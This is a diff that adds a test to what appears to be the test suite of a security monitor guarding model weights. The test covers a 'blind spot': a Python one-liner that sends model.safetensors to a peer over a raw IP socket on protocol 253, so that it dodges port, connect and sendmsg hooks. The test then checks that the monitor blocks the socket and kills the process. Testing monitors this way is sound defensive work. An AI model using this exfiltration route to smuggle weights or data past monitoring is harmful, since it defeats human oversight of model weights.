@@ -44,6 +44,25 @@ except OSError as e:
 	[[ "$(alert_get message network.protocol=raw)" == *"opened a raw ipv4 socket"* ]]
 }
 
+@test "blind spot: monitor: the weights sent over a raw IP socket are counted on the sender's taint and pass the budget alerted" {
+	start_agent
+	# IP protocol 253 (experimental): no port, no connect, no sendmsg hook
+	run in_cg python3 -c '
+import socket, sys
+data = open(sys.argv[1], "rb").read()
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
+for i in range(0, len(data), 1400):
+    s.sendto(data[i:i + 1400], (sys.argv[2], 0))
+print("sent", len(data))' "$W/model.safetensors" "$PEER4"
+	[ "$status" -eq 0 ]
+	run alert_wait --timeout 5 rule=weights-raw-socket network.protocol=raw enforce_action=blocked
+	[ "$status" -eq 0 ]
+	run alert_wait --timeout 5 rule=weights-egress-budget network.daddr="$PEER4" \
+		taint.sources.0.path="$W/model.safetensors" enforce_action=killed
+	[ "$status" -eq 0 ]
+	stop_agent
+}
+
 # control ARGS...: tests/scenarios/control.py in the test cgroup ($status, $output)
 control() {
 	run in_cg python3 "$CONTROL" "$@"
